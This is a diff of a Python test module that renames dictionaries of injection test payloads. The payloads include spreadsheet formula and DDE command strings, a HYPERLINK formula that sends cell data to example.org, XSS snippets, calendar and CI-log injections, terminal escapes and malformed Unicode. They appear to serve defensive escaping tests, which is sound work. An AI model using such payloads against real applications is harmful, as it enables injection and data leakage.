@@ -9,7 +9,7 @@ from diplovisit.record import judge
 from diplovisit.record.constraints import LINE, SENTENCE
 from diplovisit.testing import HOSTILE_TEXTS
 
-_SPREADSHEETS: Final = {
+SPREADSHEETS: Final = {
     "formula": '=HYPERLINK("http://example.org/?"&A1,"x")',
     "formula-dde": "=cmd|'/C calc'!A0",
     "formula-plus": "+1+cmd|'/C calc'!A0",
@@ -33,7 +33,7 @@ _SPREADSHEETS: Final = {
     "separator-of-excel": "sep=;",
     "apostrophe": "'tis",
 }
-_CALENDARS: Final = {
+CALENDARS: Final = {
     "calendar-ends": "x\r\nEND:VEVENT\r\nBEGIN:VALARM",
     "calendar-ends-by-line-feeds": "x\nEND:VEVENT\nEND:VCALENDAR",
     "calendar-ends-in-an-escape": "x\\nEND:VEVENT\\nATTENDEE:mailto:a@example.org",
@@ -49,7 +49,7 @@ _CALENDARS: Final = {
     "next-line": "x\u0085END:VEVENT",
     "vertical-tab": "x\x0b\x0c\x1c\x1d\x1eEND:VEVENT",
 }
-_PAGES: Final = {
+PAGES: Final = {
     "script": "<script>alert(1)</script>",
     "script-ends": "</script></style></title><script>alert(1)</script>",
     "script-in-an-attribute": "\"'><img src=x onerror=alert(1)>",
@@ -64,7 +64,7 @@ _PAGES: Final = {
     "page-entities": "&lt;b&gt; &#60; &amp; &nosuch; &#0;",
     "page-moves": '<meta http-equiv="refresh" content="0;url=http://example.org/">',
 }
-_TERMINALS: Final = {
+TERMINALS: Final = {
     "terminal-colour": "\x1b[31mred\x1b[0m",
     "terminal-clears": "\x1b[2J\x1b[H",
     "terminal-title": "\x1b]0;title\x07",
@@ -77,7 +77,7 @@ _TERMINALS: Final = {
     "terminal-bell": "\a",
     "nul": "a\0b",
 }
-_LOGS: Final = {
+LOGS: Final = {
     "workflow-error": "::error::x",
     "workflow-error-behind-blanks": "  ::error::x",
     "workflow-error-behind-what-nobody-sees": "\u034f\u3164::error::x",
@@ -91,7 +91,7 @@ _LOGS: Final = {
     "workflow-output": "x\nresult<<EOF\nEOF",
     "gitlab-section": "section_start:1:x[collapsed=true]\r\x1b[0K",
 }
-_MARKDOWN: Final = {
+MARKDOWN: Final = {
     "markdown-code": "`x` ``y`` ```",
     "markdown-fence": "```\nx\n```",
     "markdown-link": "[x](javascript:alert(1)) [y]: http://example.org",
@@ -109,7 +109,7 @@ _MARKDOWN: Final = {
     "markdown-marks": "**x** __y__ ~~z~~ ==x== $x$ <b>z</b>",
     "markdown-footnote": "[^1] [ ] - [x]",
 }
-_UNICODE: Final = {
+UNICODE: Final = {
     "no-character": "a\ufffeb\uffffc\ufdd0",
     "no-character-beyond": "a\U0001fffeb\U0010ffff",
     "half-a-pair": "a\ud800b",
@@ -136,7 +136,7 @@ _UNICODE: Final = {
     "letters-that-grow": "ßİŉΐ",
     "replacement": "\ufffd",
 }
-_PROGRAMS: Final = {
+PROGRAMS: Final = {
     "norway": "NO",
     "null": "null",
     "not-a-number": "NaN",
@@ -167,14 +167,14 @@ _PROGRAMS: Final = {
 }
 
 PAYLOADS: Final = {
-    **_SPREADSHEETS,
-    **_CALENDARS,
-    **_PAGES,
-    **_TERMINALS,
-    **_LOGS,
-    **_MARKDOWN,
-    **_UNICODE,
-    **_PROGRAMS,
+    **SPREADSHEETS,
+    **CALENDARS,
+    **PAGES,
+    **TERMINALS,
+    **LOGS,
+    **MARKDOWN,
+    **UNICODE,
+    **PROGRAMS,
     **{f"hostile-{number}": text for number, text in enumerate(HOSTILE_TEXTS, 1)},
 }
 """Every payload by its name."""
